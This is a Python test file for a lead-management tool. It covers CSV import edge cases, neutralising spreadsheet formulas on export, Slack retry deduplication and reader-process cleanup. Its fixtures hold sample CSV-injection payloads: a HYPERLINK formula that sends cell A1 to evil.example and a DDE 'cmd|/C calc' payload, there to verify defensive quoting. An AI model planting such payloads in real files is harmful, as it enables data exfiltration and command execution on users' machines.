"""Edge inputs (issue #16, findings 6 and 8 and the lesser ones): spreadsheet formulas in exports,
bare CR / NUL / 10 MB cells in an import, a Hypothesis run of the CSV reader, Slack retries of
one event, and `leadpilot import` workers that die with their parent on kill -9."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st

from leadpilot.interfaces.web import render
from leadpilot.memory.db import open_database
from leadpilot.memory.leads import find_leads
from leadpilot.tools.leads.export import FORMULA_STARTS, export_leads, read_spreadsheet_safe, spreadsheet_safe
from leadpilot.tools.leads.importer import import_leads_csv

from conftest import NOW



def _write(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


def _notes(db, external_id: str) -> str | None:
    with db.session() as session:
        (lead,) = find_leads(session, external_id=external_id)
        return lead.notes


# --- finding 8: what a CSV may hold ------------------------------------------------------------


def test_a_bare_cr_in_quoted_notes_loads_and_nul_or_broken_lines_are_rejected_by_number(db, tmp_path):
    path = _write(tmp_path / "edge.csv", (
        "external_id,company,email,notes\n"                       # line 1
        'A1,Acme,a@acme.io,"line one\rline two"\n'                # line 2: a bare CR inside quotes
        'A2,Beta,b@beta.io,"ok\x00then"\n'                        # line 3: a NUL byte
        "A3,Gamma,c@gamma.io,unquoted\rbreak\n"                   # line 4: a CR outside quotes
        'A4,Delta,d@delta.io,"first\r\nsecond\nthird"\n'          # lines 5-7: CRLF and LF inside quotes
        "A5,Eps,e@eps.io,fine\n"                                  # line 8
    ))
    report = import_leads_csv(db, path=path, now=NOW)
    rejected = dict(report.rejected)
    assert sorted(rejected) == [3, 4]
    assert rejected[3][0].startswith("notes: holds a NUL byte (0x00)")
    assert "line break outside quotes" in rejected[4][0]
    assert (report.inserted, report.rows_read) == (3, 5) and report.rows_read == report.loaded + len(report.rejected)
    assert _notes(db, "A1") == "line one\rline two"
    assert _notes(db, "A4") == "first\r\nsecond\nthird"
    assert _notes(db, "A5") == "fine"
    rejects = (tmp_path / "edge.rejects.csv").read_text(encoding="utf-8")
    assert "\x00" not in rejects and "okthen" in rejects  # the rejects file can be fixed and imported


def test_a_ten_megabyte_note_loads_and_a_cell_over_the_setting_is_rejected_alone(db, tmp_path):
    note = "long note " * (1024 * 1024)  # 10 MiB
    path = _write(tmp_path / "big.csv", f'external_id,company,notes\nB1,Big,"{note}"\nB2,Small,short\n')
    report = import_leads_csv(db, path=path, now=NOW)
    assert (report.inserted, report.rejected) == (2, [])
    assert _notes(db, "B1") == note.strip()
    small_limit = import_leads_csv(db, path=path, now=NOW, max_field_chars=1024 * 1024)
    ((line, reasons),) = small_limit.rejected
    assert line == 2 and "longer than 1,048,576 characters (LEADPILOT_IMPORT_MAX_FIELD_CHARS)" in reasons[0]
    assert small_limit.updated == 1  # B2 still loads


def test_the_import_command_reads_the_field_limit_setting(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from leadpilot.interfaces.cli import app

    path = _write(tmp_path / "big.csv", f'external_id,company,notes\nB1,Big,"{"x" * 300_000}"\nB2,Small,short\n')
    monkeypatch.setenv("LEADPILOT_IMPORT_MAX_FIELD_CHARS", "200000")
    result = CliRunner().invoke(app, ["import", str(path), "--quiet", "--no-score"])
    assert result.exit_code == 3 and "line 2" in result.output and "1 inserted" in result.output, result.output


CELL = st.text(
    alphabet=st.one_of(
        st.sampled_from(['"', "'", ",", "\r", "\n", "\x00", "=", "+", "-", "@", "\t", ";", " ", "é", "漢", "🙂"]),
        st.characters(blacklist_categories=("Cs",)),
    ),
    max_size=12,
)


@hypothesis_settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(CELL, CELL, CELL), min_size=1, max_size=6), well_formed=st.booleans())
def test_the_csv_reader_never_raises_and_accounts_for_every_row(sqlite_db, tmp_path, rows, well_formed):
    """Random cells (quotes, CR, LF, NUL, unicode, formula starts) written as proper CSV or glued
    together raw: the import never raises, and every row read is loaded or rejected with its line."""
    path = tmp_path / "random.csv"
    body = io.StringIO(newline="")
    if well_formed:
        writer = csv.writer(body)
        for index, (company, email, notes) in enumerate(rows):
            writer.writerow([f"H{index}", company, email, notes])
    else:
        for index, cells in enumerate(rows):
            body.write(",".join((f"H{index}", *cells)) + "\n")
    path.write_bytes(("external_id,company,email,notes\r\n" + body.getvalue()).encode("utf-8"))
    report = import_leads_csv(sqlite_db, path=path, now=NOW)
    assert report.rows_read == report.inserted + report.updated + len(report.rejected)
    assert all(line >= 2 and reasons for line, reasons in report.rejected)
    if well_formed:
        written = sum(1 for index, cells in enumerate(rows))  # each starts with its external id: never blank
        assert report.rows_read == written


# --- finding 6: formulas in exports ------------------------------------------------------------

HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+44 20 7946 0958",
    "job_title": "'=already quoted by someone",
    "notes": "-5% growth, wants a call",
}


def test_spreadsheet_safe_quotes_every_formula_start_and_import_reads_it_back(tmp_path):
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "cmd") == "'" + start + "cmd"
    assert spreadsheet_safe("-5") == "-5" and spreadsheet_safe("+1.5") == "+1.5"  # numbers are not formulas
    assert spreadsheet_safe("O'Brien") == "O'Brien" and spreadsheet_safe("plain") == "plain"
    csv_bytes = render.leads_csv([{"id": 1, "company": HOSTILE["company"], "contact_name": HOSTILE["contact_name"]}]).decode()
    assert "'=HYPERLINK" in csv_bytes and "'@SUM" in csv_bytes  # the web chat's download too


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]), max_size=8))
def test_reading_a_safe_cell_gives_back_exactly_the_value(value):
    safe = spreadsheet_safe(value)
    assert read_spreadsheet_safe(safe) == value
    assert not safe.startswith(FORMULA_STARTS) or safe.lstrip("+-").replace(".", "", 1).isdigit()


def test_export_quotes_formulas_unless_raw_and_export_import_export_is_byte_identical(db, tmp_path):
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["external_id", "email", *HOSTILE])
        writer.writerow(["H-1", "ann@acme.io", *HOSTILE.values()])
    report = import_leads_csv(db, path=source, now=NOW)
    assert (report.inserted, report.rejected) == (1, [])
    with db.session() as session:
        (lead,) = find_leads(session, external_id="H-1")
        stored = {field: getattr(lead, field) for field in HOSTILE}
    assert stored == {**HOSTILE, "job_title": "=already quoted by someone"}  # the file's own ' was a text marker

    first = tmp_path / "first.csv"
    export_leads(db, output=first)
    (row,) = csv.DictReader(first.open(newline="", encoding="utf-8"))
    assert row["company"].startswith("'=HYPERLINK") and row["contact_name"].startswith("'@SUM")
    assert row["phone"] == "'+44 20 7946 0958" and row["notes"] == "'-5% growth, wants a call"
    assert row["job_title"] == "'=already quoted by someone"
    raw = io.StringIO()
    export_leads(db, output=raw, raw=True)
    (raw_row,) = csv.DictReader(io.StringIO(raw.getvalue()))
    assert {field: raw_row[field] for field in HOSTILE} == stored

    fresh = open_database(f"sqlite:///{tmp_path / 'fresh.db'}")
    try:
        assert import_leads_csv(fresh, path=first, now=NOW).inserted == 1
        with fresh.session() as session:
            (again,) = find_leads(session, external_id="H-1")
            assert {field: getattr(again, field) for field in HOSTILE} == stored  # "-5% growth" and "+44" survive
        second = tmp_path / "second.csv"
        export_leads(fresh, output=second)
    finally:
        fresh.dispose()
    assert second.read_bytes() == first.read_bytes()


# --- Slack: a retried or replayed event is answered once -----------------------------------------


@pytest.fixture
def slack_app(tmp_path):
    from leadpilot.memory.seed import seed_demo
    from leadpilot.settings import load_settings
    from slack_stub import BOT_TOKEN, SIGNING_SECRET, SlackAPIStub, SlackSender, serve_slack_app

    db = open_database(f"sqlite:///{tmp_path / 'slack.db'}")
    seed_demo(db, now=NOW, n_leads=100)
    try:
        with SlackAPIStub() as api:
            settings = load_settings(slack_bot_token=BOT_TOKEN, slack_signing_secret=SIGNING_SECRET, slack_api_url=api.base_url)
            with serve_slack_app(settings, db) as url:
                yield api, SlackSender(url)
    finally:
        db.dispose()


def test_a_slack_event_retried_or_replayed_is_answered_once(slack_app):
    from slack_stub import SIGNING_SECRET, sign

    api, sender = slack_app
    ts = "1763700001.000100"
    body = sender.event_body({"type": "app_mention", "user": "U0DEMO01", "text": "<@U0BOT> how many leads by source",
                              "ts": ts, "channel": "C0SALES", "event_ts": ts})
    statuses = []
    for retry in (None, "1", "2"):  # the delivery, then Slack's retries: each signed anew, same event_id
        now = int(time.time())
        headers = {"Content-Type": "application/json", "X-Slack-Request-Timestamp": str(now),
                   "X-Slack-Signature": sign(SIGNING_SECRET, now, body)}
        if retry:
            headers.update({"X-Slack-Retry-Num": retry, "X-Slack-Retry-Reason": "http_timeout"})
        statuses.append(sender.http.post(sender.url, content=body.encode(), headers=headers).status_code)
    statuses.append(sender.post(body, "application/json").status_code)  # a replay within the 5 minutes
    assert statuses == [200, 200, 200, 200]
    api.wait_for("chat.postMessage", lambda args: args.get("thread_ts") == ts)
    time.sleep(1.0)
    assert len([c for c in api.calls_to("chat.postMessage") if c["args"].get("thread_ts") == ts]) == 1
    other = "1763700002.000100"  # a new event (new event_id) is answered as usual
    sender.mention(user="U0DEMO01", channel="C0SALES", text="how many leads by source", ts=other)
    api.wait_for("chat.postMessage", lambda args: args.get("thread_ts") == other)


def test_seen_events_forget_after_their_time_to_live():
    from leadpilot.interfaces.slack.runtime import SeenEvents

    clock = [0.0]
    seen = SeenEvents(ttl_s=60, capacity=3, clock=lambda: clock[0])
    assert seen.first_time("Ev1") and not seen.first_time("Ev1")
    clock[0] = 61
    assert seen.first_time("Ev1")  # an hour-old id is a new event again
    for name in ("Ev2", "Ev3", "Ev4", "Ev5"):
        assert seen.first_time(name)
    assert len(seen._seen) <= 4  # bounded


# --- kill -9 of `leadpilot import`: its reader process dies with it -------------------------------


def _children(pid: int) -> set[int]:
    found: set[int] = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            found.update(int(child) for child in (task / "children").read_text().split())
        except OSError:
            pass
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"  # a zombie has ended; only its exit status is left


@pytest.mark.skipif(not Path("/proc/self/task").exists() or (os.cpu_count() or 1) < 2,
                    reason="needs Linux /proc and two cores (a one-core import reads in-process)")
@pytest.mark.parametrize("quiet", [True, False], ids=["fork", "spawn"])  # a progress bar's thread makes it spawn
def test_kill_9_of_an_import_leaves_no_reader_process_behind(tmp_path, quiet):
    path = tmp_path / "many.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["external_id", "company", "email", "notes"])
        for index in range(60_000):  # ~4 MB: above the size that reads in a second process
            writer.writerow([f"K{index}", f"Company {index}", f"p{index}@c{index}.io", "a note " * 4])
    script = Path(sys.executable).with_name("leadpilot")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "leadpilot.interfaces.cli"]
    env = {**os.environ, "LEADPILOT_DATA_DIR": str(tmp_path / "data"), "COLUMNS": "100"}
    parent = subprocess.Popen([*command, "import", str(path), "--no-score", *(["--quiet"] if quiet else [])],
                              cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        children: set[int] = set()
        while not children and time.monotonic() < deadline and parent.poll() is None:
            children = {child for child in _children(parent.pid) if _alive(child)}
            time.sleep(0.02)
        assert children, "the import finished before its reader process was seen; make the file bigger"
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait(timeout=10)
        deadline = time.monotonic() + 5
        while any(_alive(child) for child in children) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not any(_alive(child) for child in children)
    finally:
        if parent.poll() is None:
            parent.kill()


def test_a_rejected_rows_formulas_are_quoted_in_the_rejects_file_which_imports_like_the_original(db, tmp_path):
    path = tmp_path / "bad.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["external_id", "company", "email", "notes", "job_title"])
        writer.writerow(["R-1", '=HYPERLINK("http://evil.example")', "not-an-email", "-5% growth", "'@already marked"])
    report = import_leads_csv(db, path=path, now=NOW)
    assert [line for line, _ in report.rejected] == [2]
    (row,) = csv.DictReader((tmp_path / "bad.rejects.csv").open(newline="", encoding="utf-8"))
    assert (row["company"], row["notes"], row["job_title"]) == ("'=HYPERLINK(\"http://evil.example\")", "'-5% growth", "'@already marked")
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(row))
        writer.writeheader()
        writer.writerow({**row, "email": "ok@evil.example"})
    assert import_leads_csv(db, path=fixed, now=NOW).inserted == 1
    with db.session() as session:
        (lead,) = find_leads(session, external_id="R-1")
        assert (lead.company, lead.notes, lead.job_title) == ('=HYPERLINK("http://evil.example")', "-5% growth", "@already marked")
